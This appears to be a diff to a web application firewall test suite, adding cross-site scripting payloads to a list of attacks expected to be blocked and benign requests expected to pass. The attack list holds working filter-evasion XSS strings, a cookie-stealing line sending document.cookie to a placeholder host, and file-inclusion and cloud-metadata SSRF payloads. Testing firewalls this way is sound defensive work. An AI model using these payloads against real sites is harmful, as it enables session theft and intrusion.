@@ -88,6 +88,20 @@ CRS_ATTACKS = [
     ("GenericLFI_BODY", {"method": "POST", "body": '{"f":"..\\\\..\\\\windows\\\\win.ini"}'}),
     ("GenericLFI_BODY", {"method": "POST", "body": "f=..\\..\\windows\\win.ini"}),  # form: backslashes kept
     ("EC2MetaDataSSRF_BODY", {"method": "POST", "body": '{"hook":"http:\\/\\/169\\u002e254\\u002e169\\u002e254\\/latest\\/"}'}),
+    # what libinjection's tokeniser lets through: Mamori's XSS patterns
+    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%22%20on%7Bpaste%3Dalert(1)%20x%3D%22"}),
+    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%22%20On%60FoCuS%3DPrint()%20autofocus"}),
+    ("CrossSiteScripting_COOKIE", {"headers": {"Cookie": "p=<marquee%20onbounce=alert(1)>x</marquee>"}}),
+    ("CrossSiteScripting_BODY", {"method": "POST", "body": '{"u":"Javas\\tcRIpT:AleRT(1)"}'}),
+    ("CrossSiteScripting_BODY", {"method": "POST", "body": "u=%3Cimg%09src%3Dx%0Aonerror%3Dalert%3F.call(null%2C1)%3E"}),
+    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=1%7C%7Calert%601%60"}),
+    ("CrossSiteScripting_COOKIE", {"headers": {"Cookie": 'q=FiltER"%5D%5B"ConStructOr"%5D("alert(1)")()'}}),
+    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%7B%7B%24on.constructor('alert(1)')()%7D%7D"}),
+    ("CrossSiteScripting_URIPATH", {"uri": "/p/ale%27%2B%27rt%27%5D(1)"}),
+    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%5C%5Cx61%5C%5Cx6c%5C%5Cx65%5C%5Cx72%5C%5Cx74(1)"}),
+    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=data:text/javascript,alert(1)"}),
+    ("CrossSiteScripting_COOKIE", {"headers": {"Cookie": "q=%3C/ScRiPt%3E"}}),
+    ("CrossSiteScripting_BODY", {"method": "POST", "body": "c=new+Image().src%3D'//x/?'%2Bdocument.cookie"}),
 ]  # fmt: skip
 
 
@@ -116,6 +130,11 @@ BENIGN = [
     {"headers": {"Referer": "https://www.google.com/search?q=shoes"}},
     {"uri": "/webhook?target=https://hooks.example.com/a/b"},
     {"method": "POST", "body": '{"bio":"I \\u2764 \\u003cb\\u003ebold\\u003c/b\\u003e text","dir":"..\\/assets\\/logo.png"}'},
+    {"method": "POST", "body": "note=Set+an+alert(s)+for+price+drops%2C+and+please+confirm+(by+email)"},
+    {"method": "POST", "body": '{"html":"<p>See <a href=\\"https://shop.example.com/p/online-deals?ref=one\\">the online deals</a></p>"}'},
+    {"method": "POST", "body": '{"code":"for row in rows: print(row[\'id\']); el.on(\'click\', f)"}'},
+    {"uri": "/s?q=javascript:+the+good+parts"},
+    {"uri": "/s?q=caf%C3%A9+%5Cu00e9t%C3%A9"},
 ]  # fmt: skip
 
 
